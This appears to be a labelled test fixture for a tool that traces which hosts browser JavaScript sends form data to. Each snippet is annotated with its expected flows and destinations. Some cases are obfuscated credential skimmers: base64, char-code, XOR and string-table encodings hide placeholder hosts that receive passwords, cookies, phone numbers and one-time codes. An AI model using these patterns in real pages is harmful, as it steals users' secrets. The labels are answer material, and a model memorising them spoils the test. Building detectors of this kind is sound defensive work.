//# ho-dst-base64-host
// flow: password > c2.hiddenroute.example via fetch
// no guard
// destination: https://c2.hiddenroute.example/in
// why: the address stands there in base64
const _r = 'aHR0cHM6Ly9jMi5oaWRkZW5yb3V0ZS5leGFtcGxlL2lu';
const _s = { q: (sel) => document.querySelector(sel), d: (v) => atob(v) };
function _p(route, body) {
  return fetch(_s.d(route), { method: 'POST', mode: 'no-cors', body });
}
_p(_r, _s.q('input[type=password]').value);

//# ho-dst-charcodes
// flow: identifier > x1.pixel.example via image
// no guard
// destination: https://x1.pixel.example/?c={}
var _a = [104, 116, 116, 112, 115, 58, 47, 47, 120, 49, 46, 112, 105, 120, 101, 108, 46, 101, 120, 97, 109, 112, 108, 101, 47, 63, 99, 61];
(function (w, d) {
  var i = new w.Image();
  var u = String.fromCharCode.apply(null, _a);
  i.src = u + encodeURIComponent(d.cookie);
})(window, document);

//# ho-dst-reversed-string
// flow: device > stat.mirrored.example via beacon
// no guard
// destination: https://stat.mirrored.example/r
var _u = 'r/elpmaxe.derorrim.tats//:sptth'.split('').reverse().join('');
var _n = navigator;
function _s(v) { return _n.sendBeacon(_u, v); }
_s([_n.userAgent, _n.vendor].join('~'));

//# ho-dst-string-table
// flow: phone > otp.gatewayone.example via xhr
// no guard
// destination: https://otp.gatewayone.example/send
// why: an obfuscator's string table with an offset
var _0x4f2a = ['POST', 'open', 'https://otp.gatewayone.example', 'send', 'value', 'input[type=tel]', 'querySelector'];
function _0x1b(i) { return _0x4f2a[i - 0x10]; }
(function () {
  var x = new XMLHttpRequest();
  x[_0x1b(0x11)](_0x1b(0x10), _0x1b(0x12) + '/' + _0x1b(0x13));
  x[_0x1b(0x13)](document[_0x1b(0x16)](_0x1b(0x15))[_0x1b(0x14)]);
})();

//# ho-dst-region-table
// flow: email > eu.api.cartly.example via fetch
// flow: email > us.api.cartly.example via fetch
// no guard
// destination: https://eu.api.cartly.example/profile
// destination: https://us.api.cartly.example/profile
// no destination: api.cartly.example
// why: the region comes from the page's configuration, each host of the table can be reached
const HOSTS = { eu: 'eu.api.cartly.example', us: 'us.api.cartly.example' };
const region = document.documentElement.dataset.region;
const endpoint = (p) => 'https://' + HOSTS[region] + p;
fetch(endpoint('/profile'), { method: 'POST', body: document.querySelector('input[type=email]').value });

//# ho-dst-url-object
// flow: username > auth.tenantly.example via fetch
// no guard
// destination: https://auth.tenantly.example/v3/lookup
// why: the second argument of URL is the base; an absolute path replaces its path
const base = new URL('https://auth.tenantly.example/v2/');
const target = new URL('/v3/lookup', base);
fetch(target.href, { method: 'POST', body: new URLSearchParams({ u: document.querySelector('#username').value }) });

//# ho-dst-protocol-relative
// flow: identifier > cdn.tagloader.example via script
// no guard
// why: protocol-relative: a host, not a path of the page
(function (d, s, id) {
  var js = d.createElement(s), ref = d.getElementsByTagName(s)[0];
  js.async = 1;
  js.src = '//cdn.tagloader.example/t.js?u=' + id;
  ref.parentNode.insertBefore(js, ref);
})(document, 'script', localStorage.getItem('tl_uid'));

//# ho-dst-from-server-answer
// flow: phone > ? via fetch
// no guard
// destination: https://cfg.dispatcher.example/routes.json
// why: only the configuration server knows where the number goes
async function sendCode() {
  const routes = await fetch('https://cfg.dispatcher.example/routes.json').then((r) => r.json());
  const tel = document.querySelector('input[type=tel]').value;
  await fetch(routes.sms, { method: 'POST', body: JSON.stringify({ tel }) });
}
sendCode();

//# ho-dst-default-overridden
// flow: email > prod.mailhub.example via fetch
// no guard
// destination: https://prod.mailhub.example/v1/join
// no destination: staging.mailhub.example
// why: the options that the only caller gives replace the default
const defaults = { host: 'https://staging.mailhub.example', version: 'v1' };
function createClient(options) {
  const cfg = Object.assign({}, defaults, options);
  return { join: (email) => fetch(`${cfg.host}/${cfg.version}/join`, { method: 'POST', body: email }) };
}
const mailClient = createClient({ host: 'https://prod.mailhub.example' });
mailClient.join(document.querySelector('input[type=email]').value);

//# ho-dst-fallback-list
// flow: device > a.telem.example via fetch
// flow: device > b.telem.example via fetch
// no guard
// destination: https://a.telem.example/e
// destination: https://b.telem.example/e
// why: a second host is tried when the first fails
const MIRRORS = ['https://a.telem.example', 'https://b.telem.example'];
async function ship(data, n = 0) {
  try {
    return await fetch(MIRRORS[n] + '/e', { method: 'POST', body: data });
  } catch (err) {
    return n + 1 < MIRRORS.length ? ship(data, n + 1) : null;
  }
}
ship(JSON.stringify({ cores: navigator.hardwareConcurrency, mem: navigator.deviceMemory }));

//# ho-dst-xhr-relative-prefix
// flow: password > self via xhr
// no guard
// destination: /portal/api/login.do
// no destination: legacy.portal.example
var ctx = '/portal';
// formerly https://legacy.portal.example/api/login.do
var rq = new XMLHttpRequest();
rq.open('POST', ctx + '/api/' + 'login' + '.do');
rq.setRequestHeader('X-Requested-With', 'XMLHttpRequest');
rq.send('pwd=' + encodeURIComponent(document.getElementById('password').value));

//# ho-dst-xor-decoded
// flow: otp > zz.relay.example via beacon
// no guard
// destination: https://zz.relay.example/o
// why: bytes with one key
var _k = 23, _b = [127, 99, 99, 103, 100, 45, 56, 56, 109, 109, 57, 101, 114, 123, 118, 110, 57, 114, 111, 118, 122, 103, 123, 114, 56, 120];
function _d(b) { return b.map(function (c) { return String.fromCharCode(c ^ _k); }).join(''); }
navigator.sendBeacon(_d(_b), document.querySelector('input[autocomplete=one-time-code]').value);

//# ho-dst-template-replace
// flow: search > suggest.findit.example via fetch
// guard: event input
// destination: https://suggest.findit.example/en/complete?term={}
const ROUTE = 'https://suggest.findit.example/:lang/complete?term=:term';
const fill = (tpl, vars) => tpl.replace(/:(lang|term)\b/g, (_, k) => vars[k]);
document.querySelector('input[type=search]').addEventListener('input', (e) => {
  fetch(fill(ROUTE, { lang: 'en', term: encodeURIComponent(e.target.value) }));
});

//# ho-dst-subdomain-from-tenant
// flow: email > acme.login.suite.example via fetch
// no guard
// destination: https://acme.login.suite.example/oauth/start
class Tenant {
  constructor(slug) { this.slug = slug; }
  get origin() { return `https://${this.slug}.login.suite.example`; }
  start(hint) {
    return fetch(this.origin + '/oauth/start', { method: 'POST', body: JSON.stringify({ hint }) });
  }
}
new Tenant('acme').start(document.querySelector('#email').value);

//# ho-dst-no-data-constant-ping
// no flow
// destination: https://hb.uptimekit.example/alive
// no destination: hb-dev.uptimekit.example
// why: an address without data; the other host stands in a branch that cannot run
const PRODUCTION = true;
const HB = PRODUCTION ? 'https://hb.uptimekit.example' : 'https://hb-dev.uptimekit.example';
setInterval(() => fetch(HB + '/alive', { method: 'HEAD', cache: 'no-store' }), 60000);

//# ho-dst-host-in-regex-only
// no flow
// destination: https://img.gallery.example/list.json
// no destination: evil-tracker.example
// why: the host stands in a block list and a comment
const VERSION = '4.1';
// see also https://evil-tracker.example/docs
const BLOCKED = /^https?:\/\/(?:www\.)?evil-tracker\.example\//i;
const LIST = 'https://img.gallery.example/list.json';
fetch(LIST).then((r) => r.json()).then((rows) => {
  rows.filter((u) => !BLOCKED.test(u)).forEach((u) => {
    document.querySelector('#out').append(u);
  });
});

//# ho-dst-namespace-uri
// no flow
// destination: /icons/sprite.svg
// no destination: schemas.drawing.example
// why: the name of a namespace looks like an address
const NS = 'http://schemas.drawing.example/2006/vector';
const node = document.createElementNS(NS, 'v:shape');
node.setAttributeNS(NS, 'v:fill', '#fff');
document.body.appendChild(node);
fetch('/icons/sprite.svg').then((r) => r.text()).then((t) => { document.querySelector('#sprite').textContent = t; });

//# ho-dst-origin-check-list
// no flow
// no destination: app.trusted.example
// why: the origins are compared with, nothing is sent to them
const TRUSTED = ['https://app.trusted.example', 'https://admin.trusted.example'];
window.addEventListener('message', (e) => {
  if (!TRUSTED.includes(e.origin)) return;
  document.querySelector('#frame-title').textContent = e.data.title;
});
